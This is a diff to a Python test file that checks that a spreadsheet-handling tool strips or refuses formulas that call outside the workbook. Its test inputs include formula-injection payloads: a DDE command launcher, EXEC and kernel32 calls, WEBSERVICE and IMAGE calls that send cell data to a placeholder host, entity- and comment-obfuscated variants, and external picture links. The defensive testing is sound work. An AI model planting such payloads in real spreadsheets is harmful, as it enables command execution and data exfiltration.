@@ -226,8 +226,7 @@ def test_a_link_to_a_running_program_is_left_out() -> None:
     assert filled(load_workbook(io.BytesIO(returned))["务工"]) == {"B2": "error"}
 
 
-@pytest.mark.parametrize("formula", ["cmd|' /C calc'!A0", 'WEBSERVICE("http://x")', 'call("kernel32","x","y")'])
-def test_a_formula_that_might_execute_something_is_copied_as_its_value(formula: str) -> None:
+def with_formula(formula: str) -> bytes:
     buffer = io.BytesIO()
     workbook = xlsxwriter.Workbook(buffer)
     sheet = workbook.add_worksheet("务工")
@@ -236,9 +235,110 @@ def test_a_formula_that_might_execute_something_is_copied_as_its_value(formula: 
     sheet.write_row(1, 0, list(row.values()))
     sheet.write_formula(1, len(row), f"={formula}", None, "7")
     workbook.close()
-    after = load_workbook(io.BytesIO(answered(buffer.getvalue())))["务工"]
-    assert {cell.data_type for line in after.iter_rows() for cell in line} <= {"s", "n"}
-    assert after.cell(2, len(row) + 1).value == "7"
+    return buffer.getvalue()
+
+
+def formulas(content: bytes) -> list[Any]:
+    sheet = load_workbook(io.BytesIO(content))["务工"]
+    return [cell.value for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "cmd|' /C calc'!A0", 'WEBSERVICE("http://x")', 'call("kernel32","x","y")', '_xlfn.IMAGE("http://x/"&C4)',
+        'IF(A2="",1,image ("http://x/"&C4))', "_xlfn.STOCKHISTORY(A2)", "_xlfn._xlws.PY(0,0,A2)",
+        '_xlfn.TRANSLATE(A2,"a","b")', '_xlfn.COPILOT("sum",A2)', '_xlfn.IMPORTCSV("http://x/"&C4)',
+        'IMPORTDATA("http://x/"&C4)', 'CUBEVALUE("x",A2)', 'RTD("x","",A2)', 'DDE("soffice","x","y")',
+        'SQL.REQUEST("x",A2)', 'REGISTER.ID("x","y")', 'EXEC("calc")',
+    ],
+)  # fmt: skip
+def test_a_formula_that_calls_out_is_copied_as_its_value(formula: str) -> None:
+    returned = answered(with_formula(formula))
+    assert formulas(returned) == []
+    after = load_workbook(io.BytesIO(returned))["务工"]
+    assert after.cell(2, len(ROWS["employment"]) + 1).value == "7"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A2,1)",
+        '_xlfn.DISPIMG("ID_1",1)',
+        'HYPERLINK("#A1","总表")',
+        'TEXT(MID(B2,7,8),"0000年")&"IMAGE"',
+        "[1]Sheet1!A1",
+    ],
+)
+def test_a_formula_that_stays_within_the_workbook_stays(formula: str) -> None:
+    assert formulas(answered(with_formula(formula))) == [f"={formula}"]
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        "&#73;MAGE(A2)",
+        "I&#x4d;AGE(A2)",
+        "IMAGE&#40;A2)",
+        "IMA<!-- -->GE(A2)",
+        "<![CDATA[IMAGE(A2)]]>",
+        "IMA<?x?>GE(A2)",
+    ],
+)
+def test_a_call_is_found_however_it_is_written(hidden: str) -> None:
+    package = Package(with_formula("SUM(A2,1)"))
+    package.write(SHEET, package.read(SHEET).replace(b"SUM(A2,1)", hidden.encode()))
+    assert formulas(answered(package.save())) == []
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-7"])
+def test_a_sheet_in_another_encoding_hides_no_formula(encoding: str) -> None:
+    package = Package(with_formula('WEBSERVICE("http://x")'))
+    text = package.read(SHEET).decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
+    package.write(SHEET, text.encode(encoding))
+    with pytest.raises(UnusualPackageError, match="UTF-8"):
+        marked(package.save(), [], FRONT)
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        '<dataValidations><dataValidation sqref="A1"><formula1>IMAGE(A1)</formula1></dataValidation></dataValidations>',
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+        "<formula>_xlfn.WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>",
+    ],
+)
+def test_a_rule_of_a_sheet_calls_out_no_more_than_a_cell(rule: str) -> None:
+    package = Package(clerks_workbook())
+    package.write(SHEET, package.read(SHEET).replace(b"</sheetData>", b"</sheetData>" + rule.encode()))
+    with pytest.raises(UnusualPackageError, match="formula"):
+        marked(package.save(), [], FRONT)
+
+
+def test_a_table_whose_next_row_would_call_out_is_copied_as_its_values() -> None:
+    column = b"<tableColumn><calculatedColumnFormula>IMAGE(A2)</calculatedColumnFormula></tableColumn>"
+    content = with_part(clerks_workbook(), SHEET, "table", "xl/tables/table1.xml", b"<table>" + column + b"</table>")
+    with pytest.raises(UnusualPackageError, match="formula"):
+        marked(content, [], FRONT)
+
+
+@pytest.mark.parametrize(
+    ("target", "is_refused"), [("http://x/1.png", True), ("file:///\\\\x\\1.png", True), ("NULL", False)]
+)
+def test_a_picture_that_is_fetched_from_elsewhere_is_not_sent_back(target: str, is_refused: bool) -> None:
+    drawing = "xl/drawings/drawing9.xml"
+    package = Package(with_part(clerks_workbook(), SHEET, "drawing", drawing, b"<xdr:wsDr xmlns:xdr='x'/>"))
+    relation = f'<Relationship Id="rId1" Type="x/relationships/image" Target="{target}" TargetMode="External"/>'
+    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
+    package.write(
+        "xl/drawings/_rels/drawing9.xml.rels",
+        f'<Relationships xmlns="{namespace}">{relation}</Relationships>'.encode(),
+    )
+    if is_refused:
+        with pytest.raises(UnusualPackageError, match="picture"):
+            marked(package.save(), [], FRONT)
+    else:
+        assert drawing in Package(marked(package.save(), [], FRONT)).names
 
 
 def prefixed(content: bytes) -> bytes:
